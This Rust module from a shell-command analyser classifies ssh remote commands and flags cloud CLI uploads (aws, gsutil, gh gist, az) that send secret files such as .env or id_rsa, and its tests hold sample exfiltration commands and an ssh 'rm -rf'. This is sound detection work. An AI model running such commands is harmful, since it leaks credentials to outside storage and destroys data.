//! Network programs with a row: `ssh [OPTS] HOST CMD…` runs its remote command as a script
//! (its paths are the remote machine's, classified the same way); cloud CLIs that upload a
//! local file (`aws s3 cp|mv|sync SRC s3://…`, `gsutil cp SRC gs://…`, `gh gist create FILE`,
//! `az storage blob upload --file FILE`) send a secret when that file is one, or when the
//! upload reads stdin after a stage that read one. Fetchers, senders and socket tools are
//! still the model's name lists (`model/net.rs`).

use super::row::{Role, Row, Shape, first_operand, wrapper};
use crate::shell::model::effect::Effect;
use crate::shell::model::net;
use crate::shell::model::walk::{Call, Walk, sends_secret};
use crate::shell::options::Grammar;
use crate::shell::syntax::sink::Kind;

const SSH_OPTIONS: Grammar = wrapper("BbcDEeFIiJLlmOoPpQRSWw", &[]);

pub(super) const SSH: Row = Row {
    options: &SSH_OPTIONS,
    role: Role::Runner,
    unwrap: Some(|argv, _, _, _| {
        let i = first_operand(argv, &SSH_OPTIONS) + 1;
        match argv.get(i..) {
            Some(cmd) if !cmd.is_empty() => Kind::Runs(Some(cmd.join(" "))),
            _ => Kind::Plain,
        }
    }),
    ..Row::PLAIN
};

/// `aws`: a multiplexer (`aws s3`) that uploads with `s3 cp|mv|sync … s3://…`.
pub(super) const AWS: Row = Row {
    shape: Shape::Subcommand,
    effects: Some(uploads),
    ..Row::PLAIN
};
/// `gsutil`, `gh`, `az`.
pub(super) const UPLOADER: Row = Row {
    effects: Some(uploads),
    ..Row::PLAIN
};

/// The local files a cloud CLI call uploads: `sends-secret` for one that is a secret, or
/// for a secret read earlier in the pipeline and uploaded from stdin (`gh` always reads it).
fn uploads(w: &mut Walk<'_>, c: &Call<'_>, fx: &mut Vec<Effect>) {
    let (p, args) = (c.program, c.args);
    // `-` (stdin) is an operand, not an option.
    let operands: Vec<&String> = args
        .iter()
        .filter(|a| !a.starts_with('-') || *a == "-")
        .collect();
    let sources: Vec<&String> = match p {
        "aws"
            if operands.first().is_some_and(|a| *a == "s3")
                && operands
                    .get(1)
                    .is_some_and(|a| matches!(a.as_str(), "cp" | "mv" | "sync"))
                && operands.last().is_some_and(|a| a.starts_with("s3://")) =>
        {
            operands[2..operands.len() - 1].to_vec()
        }
        "gsutil"
            if operands
                .first()
                .is_some_and(|a| matches!(a.as_str(), "cp" | "mv" | "rsync"))
                && operands.last().is_some_and(|a| a.starts_with("gs://")) =>
        {
            operands[1..operands.len() - 1].to_vec()
        }
        "gh" if operands.first().is_some_and(|a| *a == "gist")
            && operands.get(1).is_some_and(|a| *a == "create") =>
        {
            operands[2..].to_vec()
        }
        "az" => args
            .windows(2)
            .filter(|w| w[0] == "--file" || w[0] == "-f")
            .map(|w| &w[1])
            .collect(),
        _ => return,
    };
    if let Some(s) = sources.into_iter().find(|s| net::is_secret(s)) {
        fx.push(sends_secret(s, p));
    } else if let Some(s) = w.pipes[c.depth].secret.clone()
        && (p == "gh" || operands.iter().any(|o| *o == "-"))
    {
        fx.push(sends_secret(&s, p));
    }
}

#[cfg(test)]
mod tests {
    use crate::shell::split;

    #[test]
    fn ssh_runs_the_remote_command_as_a_script() {
        let texts: Vec<String> = split("ssh -p 22 -i k host rm -rf /tmp/x")
            .segments
            .into_iter()
            .map(|s| s.text)
            .collect();
        assert_eq!(
            texts,
            ["ssh -p 22 -i k host rm -rf /tmp/x", "rm -rf /tmp/x"]
        );
        assert_eq!(split("ssh host").segments.len(), 1);
    }

    #[test]
    fn cloud_uploads_of_a_secret_send_it() {
        let sends = |cmd: &str| {
            crate::shell::model::analyse(cmd, &crate::shell::model::Context::default())
                .effects
                .into_iter()
                .filter(|e| e.line.starts_with("sends-secret"))
                .map(|e| e.line)
                .collect::<Vec<_>>()
        };
        assert_eq!(
            sends("aws s3 cp .env s3://b/x"),
            ["sends-secret via=aws path=.env"]
        );
        assert_eq!(
            sends("gsutil cp id_rsa gs://b/"),
            ["sends-secret via=gsutil path=id_rsa"]
        );
        assert_eq!(
            sends("gh gist create .env"),
            ["sends-secret via=gh path=.env"]
        );
        assert_eq!(
            sends("az storage blob upload --file .env"),
            ["sends-secret via=az path=.env"]
        );
        assert_eq!(
            sends("cat .env | gh gist create"),
            ["sends-secret via=gh path=.env"]
        );
        // Uploading stdin after a stage that read a secret (`-` was once dropped with the
        // options, so this sent nothing).
        assert_eq!(
            sends("cat .env | aws s3 cp - s3://b/x"),
            ["sends-secret via=aws path=.env"]
        );
        assert_eq!(sends("cat .env | gsutil cp - gs://b/x").len(), 1);
        assert!(sends("aws s3 cp s3://b/x .env").is_empty());
        assert!(sends("aws s3 ls s3://b").is_empty());
        assert!(sends("gsutil cp a.txt gs://b/").is_empty());
        assert!(sends("gh gist list").is_empty());
        assert!(sends("cat .env | aws s3 cp a s3://b/x").is_empty());
    }
}
